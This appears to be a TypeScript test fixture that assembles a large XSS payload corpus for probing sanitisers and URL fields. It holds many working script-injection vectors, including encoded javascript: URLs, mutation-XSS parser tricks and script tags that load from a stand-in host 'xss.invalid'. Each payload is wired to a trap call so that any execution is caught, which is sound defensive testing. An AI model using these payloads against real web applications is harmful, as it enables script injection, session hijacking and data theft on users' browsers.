/**
 * The XSS corpus: hostile strings of every kind we know, each calling the trap `top.__xss(<n>)` (or
 * loading from the trap host `xss.invalid`) if it ever runs. Assembled from base vectors and the
 * usual disguises (case, whitespace and control characters, entities, encodings).
 */
const T = (n: number | string) => `top.__xss(${JSON.stringify(String(n))})`;

/** Base vectors; `$` is replaced by the trap call, `#` by the vector's id. */
const BASE: string[] = [
  // tags with handlers
  `<img src=x onerror=$>`,
  `<img src="x" onerror="$">`,
  `<svg onload=$>`,
  `<svg><script>$</script></svg>`,
  `<body onload=$>`,
  `<iframe onload=$></iframe>`,
  `<details open ontoggle=$>`,
  `<video><source onerror=$></video>`,
  `<audio src=x onerror=$>`,
  `<input autofocus onfocus=$>`,
  `<select autofocus onfocus=$></select>`,
  `<textarea autofocus onfocus=$></textarea>`,
  `<marquee onstart=$>x</marquee>`,
  `<object data="javascript:$"></object>`,
  `<embed src="javascript:$">`,
  `<div onmouseover=$ style="position:fixed;inset:0">hover</div>`,
  `<a onclick=$ href=#>click</a>`,
  `<form><button formaction=javascript:$>go</button></form>`,
  `<form action="javascript:$"><input type=submit></form>`,
  `<isindex action=javascript:$ type=image>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=$>`,
  `<svg><animate onbegin=$ attributeName=x dur=1s>`,
  `<svg><set onbegin=$ attributeName=x to=1>`,
  `<svg><a xlink:href="javascript:$"><text x=20 y=20>svg link</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='$'/></svg>#x"/></svg>`,
  `<math href="javascript:$">math link</math>`,
  // script and frames
  `<script>$</script>`,
  `<script src="//xss.invalid/#.js"></script>`,
  `<script type="module">$</script>`,
  `<iframe src="javascript:$"></iframe>`,
  `<iframe srcdoc="<script>parent.${T('srcdoc')}</script>"></iframe>`,
  `<iframe src="data:text/html,<script>$</script>"></iframe>`,
  `<frameset onload=$>`,
  `<noscript><p title="</noscript><img src=x onerror=$>"></noscript>`,
  `<template><img src=x onerror=$></template>`,
  // links and URL schemes
  `<a href="javascript:$">link</a>`,
  `<a href="JaVaScRiPt:$">link</a>`,
  `<a href=" javascript:$">link</a>`,
  `<a href="java&#x09;script:$">link</a>`,
  `<a href="java&#10;script:$">link</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;$">link</a>`,
  `<a href="vbscript:msgbox(1)">vb</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
  `<a href="livescript:$">ls</a>`,
  `<base href="javascript:$//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:$">`,
  `<link rel=import href="//xss.invalid/#.html">`,
  `<link rel=stylesheet href="//xss.invalid/#.css">`,
  `<img src="//xss.invalid/#.png">`,
  `<img srcset="//xss.invalid/#.png 1x">`,
  `<picture><source srcset="//xss.invalid/#.png"><img src=x></picture>`,
  `<video poster="//xss.invalid/#.png"></video>`,
  `<table background="//xss.invalid/#.png"><tr><td>t</td></tr></table>`,
  // CSS
  `<div style="background:url(//xss.invalid/#.png)">css</div>`,
  `<div style="background-image:url('javascript:$')">css</div>`,
  `<div style="width:expression($)">ie</div>`,
  `<style>@import '//xss.invalid/#.css';</style>`,
  `<style>*{background:url(//xss.invalid/#.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(//xss.invalid/#.woff)}</style>`,
  `<div style="behavior:url(#default#time2)">b</div>`,
  // mutation XSS and parser tricks
  `<noscript><style></noscript><img src=x onerror=$>`,
  `<svg></p><style><a id="</style><img src=x onerror=$>">`,
  `<math><mi><style><img src=x onerror=$></style></mi></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=$>`,
  `<listing>&lt;img src=x onerror=$&gt;</listing>`,
  `<xmp><img src=x onerror=$></xmp>`,
  `<![CDATA[><img src=x onerror=$>]]>`,
  `<!--><img src=x onerror=$>-->`,
  `<? foo="><img src=x onerror=$>">`,
  `</title><img src=x onerror=$>`,
  `</textarea><img src=x onerror=$>`,
  `"><img src=x onerror=$>`,
  `'><img src=x onerror=$>`,
  `\`><img src=x onerror=$>`,
  `" onmouseover="$" x="`,
  `' onfocus='$' autofocus x='`,
  // template and framework injection forms
  `{{constructor.constructor('$')()}}`,
  `\${$}`,
  `<%= $ %>`,
  `#{$}`,
  `{{7*7}}[[7*7]]`,
  `<div v-html="'<img src=x onerror=$>'"></div>`,
  `<div ng-app ng-csp><div ng-focus="$" tabindex=0>ng</div></div>`,
  // naughty unicode and text
  `\u202e<img src=x onerror=$>`,
  `\ufeff<script>$</script>`,
  `\u0000<img src=x onerror=$>`,
  `＜script＞$＜/script＞`,
  `\ud83d\ude00<svg/onload=$>`,
  `Ω≈ç√∫˜µ≤≥÷ <img src=x onerror=$>`,
  `<scr<script>ipt>$</scr</script>ipt>`,
  `<SCRIPT SRC=//xss.invalid/#.js></SCRIPT>`,
  `<IMG SRC=JaVaScRiPt:$>`,
  `<IMG """><SCRIPT>$</SCRIPT>">`,
  `<IMG SRC=javascript:$ onerror=$>`,
  `<img src=x:alert(1) onerror=eval(src) alt=0>`,
  `<svg><script xlink:href=data:,$></script></svg>`,
  `<iframe src="jav&#x0D;ascript:$"></iframe>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058$">pad</a>`,
  `<a href="javascript&colon;$">colon</a>`,
  `<a href="  &#x6A;avascript:$">hex</a>`,
];

/** Plain URLs, for the URL fields (avatar, order and case links, attachments, originals). */
const URLS: string[] = [
  'javascript:$',
  'JAVASCRIPT:$',
  ' javascript:$',
  '\tjavascript:$',
  'java\nscript:$',
  'java\u0000script:$',
  'javascript&colon;$',
  '&#106;avascript:$',
  'vbscript:msgbox(1)',
  'data:text/html,<script>$</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=$>',
  '//example.com/#"><img src=x onerror=$>',
  'javascript://%0a$',
  'jAvAsCrIpT:$//',
  'livescript:$',
  'mocha:$',
  'feed:javascript:$',
  'http://example.com/#"><img src=x onerror=$>',
  'https://example.com/#"onmouseover="$',
];

/** Disguises applied to the base vectors to reach the corpus size. */
const DISGUISES: Array<(v: string) => string> = [
  (v) => v,
  (v) => v.toUpperCase().replace(/TOP\.__XSS/g, 'top.__xss'),
  (v) => v.replace(/ /g, '\t'),
  (v) => v.replace(/</g, '<\u200b').replace(/<\u200b/g, '<'), // a zero-width joiner inside text
  (v) => `x${v}x`,
];

export interface Vector {
  id: string;
  value: string;
}

function build(): { html: Vector[]; urls: Vector[] } {
  const html: Vector[] = [];
  let n = 0;
  for (const [d, disguise] of DISGUISES.entries()) {
    for (const base of BASE) {
      const id = `h${++n}`;
      const value = disguise(base).replace(/\$/g, T(id)).replace(/#/g, id);
      if (d > 0 && value === html.find((h) => h.value === value)?.value) continue;
      html.push({ id, value });
    }
  }
  const urls = URLS.map((u, i) => ({ id: `u${i + 1}`, value: u.replace(/\$/g, T(`u${i + 1}`)).replace(/#/g, `u${i + 1}`) }));
  return { html, urls };
}

export const { html: HTML_VECTORS, urls: URL_VECTORS } = build();
export const ALL_VECTORS: Vector[] = [...HTML_VECTORS, ...URL_VECTORS];
